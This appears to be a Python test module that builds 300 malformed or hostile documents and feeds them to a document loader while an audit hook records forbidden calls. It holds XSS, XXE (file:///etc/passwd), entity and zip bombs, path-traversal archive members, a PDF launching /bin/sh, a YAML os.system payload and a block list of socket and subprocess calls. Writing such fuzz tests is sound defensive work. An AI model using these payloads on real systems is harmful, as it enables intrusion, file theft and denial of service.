"""Documents that are damaged or mean harm, the same ones each time, and a process that reads them.

``python -m tests.loaders.hostile FOLDER [EVERY]`` reads every file of :func:`documents` (or each
EVERYth) in this process, without any door to the outside, and prints what came of each as JSON.
"""

from __future__ import annotations

import io
import json
import random
import re
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from docx import Document
from openpyxl import Workbook
from pptx import Presentation
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

NUMBER = 300
# What nothing that reads a document may do; writing is told by its mode.
FORBIDDEN = (
    "socket.connect", "socket.getaddrinfo", "socket.bind", "subprocess.Popen", "os.system",
    "os.exec", "os.posix_spawn", "os.fork", "webbrowser.open", "urllib.Request", "ctypes.dlopen",
)  # fmt: skip
SECRET = "Region Gotland har tillstånd för dysmeli"
SAID = "Region Skåne har tillstånd för moyamoya sedan den 1 mars 2024."
SCRIPTS = (
    "<script>document.write('{}')</script>",
    '<img src=x onerror="{}">',
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<p>{}</p>' src='http://192.0.2.1/x'></iframe>",
    "<style>@import 'http://192.0.2.1/';</style>",
    "<object data='http://192.0.2.1/x.swf'>{}</object>",
    "<link rel=stylesheet href='http://192.0.2.1/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
    "<template><p>{}</p></template>",
    "<noscript>{}</noscript>",
    "<!-- {} -->",
    "<p hidden>{}</p>",
    "<base href='http://192.0.2.1/'>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "<embed src='http://192.0.2.1/{}'>",
    "<?php system('id'); ?>",
    "<![CDATA[<script>{}</script>]]>",
    "<video src='http://192.0.2.1/'>{}</video>",
    "<a href=\"javascript:alert('x')\">Läs mer</a>",
    "<form action='http://192.0.2.1/'><input value='{}'></form>",
)
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
FILE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


def documents() -> Iterator[tuple[str, bytes]]:
    """The documents by their names, 300 in a fixed order."""
    every = [*_kinds()]
    assert len({name for name, _ in every}) == len(every) == NUMBER, len(every)
    random.Random(18).shuffle(every)
    yield from every


def _kinds() -> Iterator[tuple[str, bytes]]:
    whole = _whole()
    for suffix, data in whole.items():
        for part in range(1, 13):  # 72: cut off
            yield f"cut-{part}{suffix}", data[: len(data) * part // 13]
        for seed in range(12):  # 72: some bytes wrong
            yield f"flipped-{seed}{suffix}", _flipped(data, seed)
        for other in whole:  # 30: another format than the name says
            if other != suffix:
                yield f"is{other[1:]}{suffix}", whole[other]
    yield from _packed(whole)
    yield from _pdfs()
    for number, script in enumerate(SCRIPTS):  # 20
        page = f"<html><body><p>{SAID}</p>{script.format(SECRET)}</body></html>"
        yield f"script-{number}.html", page.encode()
    yield from _texts()


def _whole() -> dict[str, bytes]:
    """One sound document of each format."""
    word, slides, book, pdf = Document(), Presentation(), Workbook(), PdfWriter()
    word.add_paragraph(SAID)
    slides.slides.add_slide(slides.slide_layouts[1]).shapes.title.text = SAID
    book.create_sheet("a", 0).append(["Område", SAID])
    pdf.add_blank_page(100, 100)
    made = {".docx": word.save, ".pptx": slides.save, ".xlsx": book.save, ".pdf": pdf.write}
    found: dict[str, bytes] = {}
    for suffix, save in made.items():
        out = io.BytesIO()
        save(out)
        found[suffix] = out.getvalue()
    return found | {".html": f"<p>{SAID}</p>".encode(), ".txt": SAID.encode()}


def _flipped(data: bytes, seed: int) -> bytes:
    chance, wrong = random.Random(seed), bytearray(data)
    for _ in range(1 + len(wrong) // 200):
        wrong[chance.randrange(len(wrong))] = chance.randrange(256)
    return bytes(wrong)


def _zip(members: dict[str, bytes], base: bytes = b"") -> bytes:
    """An archive with some members changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        if base:
            with zipfile.ZipFile(io.BytesIO(base)) as old:
                for name in old.namelist():
                    if name not in members:
                        packed.writestr(name, old.read(name))
        for name, data in members.items():
            packed.writestr(name, data)
    return out.getvalue()


def _packed(whole: dict[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """54: archives that grow, lie, point outside or bring programs."""
    main = {
        ".docx": "word/document.xml",
        ".pptx": "ppt/presentation.xml",
        ".xlsx": "xl/workbook.xml",
    }
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId9" Target="http://192.0.2.1/x" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b"/></Relationships>"
    )
    for suffix, part in main.items():
        base = whole[suffix]
        folder = part.split("/")[0]
        yield f"bomb{suffix}", _zip({part: b"0" * 61_000_000})
        yield f"bomb-many{suffix}", _zip({f"{n}.xml": b"0" * 610_000 for n in range(100)}, base)
        yield f"bomb-beside{suffix}", _zip({"media/x.bin": b"\0" * 61_000_000}, base)
        yield f"nested{suffix}", _zip({"x.zip": _zip({"y.zip": b"0" * 9_000_000})}, base)
        yield f"entities{suffix}", _zip({part: BOMB.encode()}, base)
        yield f"entities-types{suffix}", _zip({"[Content_Types].xml": BOMB.encode()}, base)
        yield f"file{suffix}", _zip({part: FILE.encode()}, base)
        yield f"outside{suffix}", _zip({"../../evil.txt": b"x", "/etc/evil": b"x"}, base)
        yield f"links{suffix}", _zip({f"{folder}/_rels/settings.xml.rels": rels}, base)
        yield f"macros{suffix}", _zip({f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}, base)
        yield f"deep{suffix}", _zip({part: b"<a>" * 20_000 + b"</a>" * 20_000}, base)
        yield f"empty{suffix}", _zip({})
        yield f"no-part{suffix}", _zip({"hello.txt": b"hello"})
        yield f"locked{suffix}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"E\0n\0c\0" * 999
        yield f"lies{suffix}", base.replace(b"\x14\x00", b"\xff\xff", 3)
        yield f"doubled{suffix}", base + base
        yield f"nothing{suffix}", b""
        yield f"noughts{suffix}", bytes(5_000)


def _pdfs() -> Iterator[tuple[str, bytes]]:
    """15: locked, with programs and links, with loops, with a thousand pages."""
    locked, linked, many, scripted = PdfWriter(), PdfWriter(), PdfWriter(), PdfWriter()
    for one in (locked, linked, scripted):
        one.add_blank_page(100, 100)
    locked.encrypt("secret", algorithm="RC4-128")
    linked.add_annotation(0, Link(rect=(0, 0, 9, 9), url="http://192.0.2.1/"))
    scripted.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://192.0.2.1/')"),
        }
    )
    for _ in range(1_000):
        many.add_blank_page(100, 100)
    made = (("locked", locked), ("linked", linked), ("scripted", scripted), ("pages", many))
    for name, writer in made:
        out = io.BytesIO()
        writer.write(out)
        yield f"{name}.pdf", out.getvalue()
    pages = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages"
    tail = b">>endobj\nxref\n0 1\n0000000000 65535 f \n"
    tail += b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n9\n%%EOF"
    bodies = {
        "loop": b"/Kids[2 0 R]/Count 1",
        "huge-count": b"/Kids[]/Count 999999999",
        "no-kids": b"",
        "negative": b"/Kids[3 0 R]/Count -9",
        "nested": b"/Kids" + b"[" * 900 + b"]" * 900,
        "launch": b"/Kids[]/Count 0/OpenAction<</S/Launch/F(/bin/sh)>>",
        "long-name": b"/" + b"A" * 500_000 + b" 1",
    }
    for name, body in bodies.items():
        yield f"{name}.pdf", pages + body + tail
    yield "only-head.pdf", b"%PDF-1.7\n"
    yield "junk.pdf", b"%PDF-1.7\n" + random.Random(3).randbytes(50_000)
    yield "nothing.pdf", b""
    yield "xref.pdf", b"%PDF-1.4\nstartxref\n99999999999999999999\n%%EOF"


def _texts() -> Iterator[tuple[str, bytes]]:
    """37: texts and pages that are long, deep, empty or of no letters."""
    areas = "moyamoya och dysmeli och gendermatoser, "
    lines = f"{SAID}\n"
    bodies = {
        "empty": b"",
        "blank": b" \n\n\t",
        "nul": b"\0" * 999,
        "bom": b"\xef\xbb\xbf",
        "utf16": SAID.encode("utf-16"),
        "utf32": SAID.encode("utf-32"),
        "latin": SAID.encode("latin-1"),
        "broken": b"\xff\xfe\xfa" * 500,
        "random": random.Random(1).randbytes(20_000),
        "long-line": b"a" * 3_000_000,
        "long-words": b"och " * 100_000,
        "names": areas.encode() * 4_000,
        "days": b"den 1 mars 2024 " * 9_000,
        "many-lines": lines.encode() * 25_000,
        "reader-lines": lines.encode() * 4_000,
        "brackets": b"(" * 50_000,
        "dots": b". " * 80_000,
        "commas": ("Region Skåne, " * 9_000).encode(),
        "controls": bytes(range(1, 32)) * 99,
        "turned": f"\u202e{SAID}\u202c".encode(),
        "combined": ("e" + "\u0301" * 90_000).encode(),
        "yaml": b"facts: [\n- permit: !!python/object/apply:os.system [id]\n",
        "size": b"x\n" * 25_500_000,
    }
    for name, body in bodies.items():  # 23
        yield f"{name}.txt", body
    deep = {
        "deep-div": b"<div>" * 9_000,
        "deep-list": b"<ul><li>" * 3_000,
        "deep-table": b"<table><tr><td>" * 999,
        "deep-font": b"<b><i>" * 9_000,
        "wide": b"<tr>" + b"<td>x" * 40_000,
        "cell": b"<td>" + b"x" * 2_000_000,
        "attributes": b"<p " + b"a=1 " * 90_000 + b">x",
        "entities": b"<p>" + b"&amp;" * 200_000,
        "open": b"<" * 100_000,
        "classes": b"<p class='" + b"menu " * 99_000 + b"'>x",
        "empty": b"",
        "frames": b"<iframe src='http://192.0.2.1/'>" * 500,
        "only-menu": b"<nav>Hem</nav>",
        "cdata": b"<![CDATA[" * 9_000,
    }
    for name, body in deep.items():  # 14
        yield f"{name}.html", body


def read_all(folder: Path, every: int) -> Iterator[dict[str, Any]]:
    """Read the documents; what came of each, in which time, and what it tried."""
    from loaders.drafting.proposal import known, proposal

    registers = known()
    tried: list[str] = []
    watching = [False]

    def watch(event: str, given: tuple[Any, ...]) -> None:
        writes = event == "open" and isinstance(given[1], str) and set("wax+") & set(given[1])
        if watching[0] and (event.startswith(FORBIDDEN) or writes):
            tried.append(f"{event} {given[:2]}")

    sys.addaudithook(watch)
    for number, (name, data) in enumerate(documents()):
        if number % every:
            continue
        path = folder / name
        path.write_bytes(data)
        began, said = time.process_time(), ""
        watching[0] = True
        try:
            made = proposal(path, registers)
            said = "" if SECRET not in made.rendering else "what is not shown was read"
            outcome = f"{len(made.draft.facts)} facts"
        except ValueError as error:
            outcome = str(error)
            said = "" if "\n" not in outcome and len(outcome) < 400 else "no sentence"
        except BaseException as error:
            outcome, said = repr(error)[:300], "another error than a sentence"
        watching[0] = False
        path.unlink()
        took = time.process_time() - began
        yield {"name": name, "took": took, "outcome": outcome, "wrong": said, "tried": tried[:]}
        tried.clear()


def peak() -> float:
    """The most memory that this process has held, in MB.

    ``ru_maxrss`` is the last resort: it begins with what the process that started this one held.
    """
    import resource

    try:
        status = Path("/proc/self/status").read_text(encoding="ascii")
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1]) / 1024  # type: ignore[index]


if __name__ == "__main__":
    import resource

    most = 1_500_000_000
    resource.setrlimit(resource.RLIMIT_AS, (most, most))
    for told in read_all(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1):
        sys.stdout.write(json.dumps({**told, "peak": peak()}, ensure_ascii=False) + "\n")
        sys.stdout.flush()
